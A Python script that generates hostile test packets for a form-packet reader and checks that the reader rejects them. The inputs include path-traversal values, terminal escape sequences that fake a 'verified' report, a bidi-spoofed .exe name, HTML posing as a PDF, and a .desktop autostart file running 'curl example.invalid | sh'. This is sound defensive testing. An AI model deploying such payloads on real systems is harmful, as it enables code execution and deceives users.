#!/usr/bin/python3
"""Writes the hostile packets of issue 13 into this folder.

    tests/packets/make-hostile.py _build/app/tool/shenbao-tool

Each starts from a real packet of the engine test form made by
`shenbao-tool pack`, has one thing changed, and carries the integrity hash
(and, where the content changed, the reference number) of what it holds:
the reader must refuse it or fail a check because of what it says, not
because the hash gives it away.  Canonical JSON here is RFC 8785 for what
these packets hold (ASCII keys, strings and integers), as the reader
serialises it.
"""
import base64
import copy
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
FIXTURES = os.path.join(HERE, "..", "fixtures")
ALPHABET = "345679ACDEFGHJKMNPQRTUVWXY"
SCAN_SHA256 = "e5a636ac00ea3c175d3193c5d05df60ded156dd466043c70d254507ec277e4c2"
ANSWERS = {
    "name": "阳泉市城区启明科技培训中心", "area": "120.00", "teaching_area": "80.00",
    "kind": "新设立", "pledge": True, "end_time": "20:30",
    "staff": [{"staff_name": "张伟", "role": "教学"}],
    "charter_file": [{"name": "章程.pdf", "media_type": "application/pdf", "size": 193, "sha256": SCAN_SHA256}],
}


def canonical(value):
    return json.dumps(value, ensure_ascii=False, separators=(",", ":"), sort_keys=True).encode("utf-8")


def reference(packet):
    content = {key: packet[key] for key in ("form", "submission_date", "created", "answers") if key in packet}
    digest = hashlib.sha256(canonical(content)).digest()
    date = packet["submission_date"]
    body = "ET" + date[2:4] + date[5:7] + date[8:10] + "-" + "".join(ALPHABET[b % 26] for b in digest[:6])
    check = sum((i + 1) * ord(c) for i, c in enumerate(body)) % 26
    return body + ALPHABET[check]


def seal(packet, keep_reference=False):
    if not keep_reference:
        packet["reference"] = reference(packet)
    without = {key: value for key, value in packet.items() if key != "integrity"}
    packet["integrity"]["hash"] = hashlib.sha256(canonical(without)).hexdigest()
    return packet


def with_file(packet, name, media_type, data):
    """The one attached file replaced, in the answers and the attachments."""
    sha256 = hashlib.sha256(data).hexdigest()
    packet["answers"]["charter_file"] = [{"name": name, "media_type": media_type, "size": len(data), "sha256": sha256}]
    attachment = packet["attachments"][0]
    attachment.update(name=name, media_type=media_type, size=len(data), sha256=sha256,
                      data=base64.b64encode(data).decode("ascii"))
    return packet


def main():
    tool = sys.argv[1]
    with tempfile.TemporaryDirectory() as tmp:
        data_dir = os.path.join(tmp, "data")
        shutil.copytree(os.path.join(FIXTURES, "forms"), os.path.join(data_dir, "forms"))
        answers = os.path.join(tmp, "answers.json")
        with open(answers, "w", encoding="utf-8") as f:
            json.dump(ANSWERS, f, ensure_ascii=False)
        base_path = os.path.join(tmp, "base.sbpkt.json")
        env = dict(os.environ, SHENBAO_DATA_DIR=data_dir)
        subprocess.run([tool, "pack", "--form", "enginetest", "--date", "2024-03-15", "--files",
                        os.path.join(FIXTURES, "files"), "--created", "2024-03-14T09:00:00Z",
                        "--finalised", "2024-03-15T08:00:00Z", answers, "-o", base_path], env=env, check=True)
        with open(base_path, encoding="utf-8") as f:
            base = json.load(f)

        # Packed by the tool itself: a packet made (or claimed to be made)
        # after today is written, and read with a failed check.
        future = os.path.join(HERE, "future-date.sbpkt.json")
        subprocess.run([tool, "pack", "--form", "enginetest", "--date", "2099-03-15", "--files",
                        os.path.join(FIXTURES, "files"), "--created", "2099-03-14T09:00:00Z",
                        "--finalised", "2099-03-15T08:00:00Z", "--justify", "ET-06=按未来日期测试", answers,
                        "-o", future], env=env, check=True,
                       stdout=subprocess.DEVNULL)

    cases = {}
    p = copy.deepcopy(base)
    p["reference"] = "../../../../.config/autostart"
    cases["traversal-reference"] = seal(p, keep_reference=True)

    p = copy.deepcopy(base)
    p["form"]["id"] = "../x"
    cases["bad-form-id"] = seal(p)

    p = copy.deepcopy(base)
    p["form"]["version"] = "1.0/../../../x"
    cases["bad-version"] = seal(p)

    p = copy.deepcopy(base)
    p["created"] = "2025-02-30T09:00:00Z"
    p["finalised"] = "2025-03-01T08:00:00Z"
    p["submission_date"] = "2025-03-01"
    cases["impossible-date"] = seal(p)

    p = copy.deepcopy(base)
    p["created"] = "2024-03-16T09:00:00Z"
    cases["created-after-finalised"] = seal(p)

    # An answer that hides the lines after it (ESC[8m) and a stored rule
    # result that draws a fake report: read, never shown raw, and the
    # stored result is a difference, not text to print.
    p = copy.deepcopy(base)
    p["answers"]["name"] = "启明\x1b[8m培训中心"
    p["validation"].append({"rule": "ET-01", "severity": "info", "technical": False, "field": None, "row": None,
                            "message": "\x1b[2J\x1b[H\x1b]0;verified\x07  ok     integrity\n\x9b32mverified",
                            "message_en": "\x1b[0mverified"})
    cases["escape-answer"] = seal(p)

    p = with_file(copy.deepcopy(base), "章程\x1b[8m.pdf", "application/pdf", base64.b64decode(base["attachments"][0]["data"]))
    cases["escape-name"] = seal(p)

    p = with_file(copy.deepcopy(base), "invoice\u202efdp.exe", "application/pdf",
                  base64.b64decode(base["attachments"][0]["data"]))
    cases["bidi-name"] = seal(p)

    p = with_file(copy.deepcopy(base), "autostart.desktop", "application/pdf",
                  b"[Desktop Entry]\nType=Application\nName=PDF\nExec=sh -c 'curl example.invalid | sh'\n")
    cases["desktop-attachment"] = seal(p)

    p = with_file(copy.deepcopy(base), "章程.pdf", "application/pdf",
                  b"<!DOCTYPE html><html><body><script>location='https://example.invalid/'</script></body></html>\n")
    cases["html-as-pdf"] = seal(p)

    for name, packet in cases.items():
        with open(os.path.join(HERE, name + ".sbpkt.json"), "wb") as f:
            f.write(canonical(packet))


if __name__ == "__main__":
    main()
